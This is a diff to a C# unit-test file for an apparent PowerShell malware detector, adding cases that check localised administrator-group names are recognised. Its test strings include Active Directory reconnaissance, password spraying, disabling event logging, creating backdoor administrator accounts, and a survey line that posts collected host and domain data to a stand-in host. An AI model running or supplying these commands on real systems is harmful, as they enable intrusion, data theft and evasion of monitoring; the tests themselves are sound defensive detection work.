@@ -27,6 +27,7 @@ public sealed class TraitTests
     [InlineData("directory-mapped", "$s=[adsisearcher]'(&(samAccountType=805306368)(servicePrincipalName=*))'; $s.FindAll(); $s.Filter='(adminCount=1)'; $s.Filter='(userAccountControl:1.2.840.113556.1.4.803:=524288)'; $s.Filter='(objectClass=trustedDomain)'; $s.Filter='(ms-Mcs-AdmPwd=*)'; $s.Filter='(msDS-AllowedToDelegateTo=*)'")]
     [InlineData("weak-places-searched", "function Get-UnquotedService { gwmi win32_service }; function Get-Msi { 'AlwaysInstallElevated' }; function Get-Answer { 'C:\\unattend.xml' }; function Get-Logon { 'DefaultPassword' }")]
     [InlineData("password-sprayed", "foreach ($u in $users) { $d = New-Object DirectoryServices.DirectoryEntry($path, $u, $Password); 'sprayed' }")]
+    [InlineData("survey-sent", "whoami /all > a; ipconfig /all >> a; nltest /domain_trusts >> a; net group \"Admins du domaine\" /domain >> a; Invoke-WebRequest http://a.example/x -Method Post -InFile a")]
     [InlineData("survey-sent", "whoami /all > a; ipconfig /all >> a; nltest /domain_trusts >> a; net group \"Domain Admins\" /domain >> a; Invoke-WebRequest http://a.example/x -Method Post -InFile a")]
     [InlineData("collector-of-directory", "param([ValidateSet('LocalAdmin','GPOLocalGroup','LoggedOn','Trusts','ObjectProps')]$CollectionMethod)")]
     [InlineData("event-log-service-stopped", "Set-ItemProperty HKLM:\\P\\ScriptBlockLogging EnableScriptBlockLogging 0; Set-Service EventLog -StartupType Disabled")]
@@ -96,6 +97,18 @@ public sealed class TraitTests
     [InlineData("$u = Invoke-RestMethod https://api.example/v1/hosts; foreach ($h in $u.hosts) { cmd.exe /c ping -n 1 $h.name }")]
     [InlineData("iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('V3JpdGUtSG9zdCAnaGVsbG8n')))")]
     public void An_honest_script_that_comes_close_is_not_called_malicious(string script) => Assert.False(Deobfuscator.Judge(script).Malicious);
+
+    /// <summary>Half of what makes a script malicious, in whatever language Windows speaks.</summary>
+    [Theory]
+    [InlineData("account-made-administrator", "net user wartung Sommer#2021 /add; net localgroup Administratoren wartung /add")]
+    [InlineData("account-made-administrator", "net user support P4ss /add & net localgroup Администраторы support /add")]
+    [InlineData("account-with-password-made-administrator", "net user support P4ss /add; net localgroup Administrateurs support /add")]
+    [InlineData("account-made-domain-administrator", "net user svc P4ss /add /domain; net group \"Domänen-Admins\" svc /add /domain")]
+    public void Groups_are_known_in_the_languages_of_windows(string trait, string script)
+    {
+        Assert.Contains(trait, Deobfuscator.Judge(script).Reasons.Select(reason => reason.Key));
+        Assert.DoesNotContain(trait, Deobfuscator.Judge(script.Replace("Admin", "Benutz", StringComparison.Ordinal).Replace("Админ", "Польз", StringComparison.Ordinal)).Reasons.Select(reason => reason.Key));
+    }
 
     [Theory]
     [InlineData("$head = Invoke-Expression \"git rev-parse --verify HEAD\"\nWrite-Host \"At $head, building the service and its tests\"\nInvoke-Build -Configuration Release")]
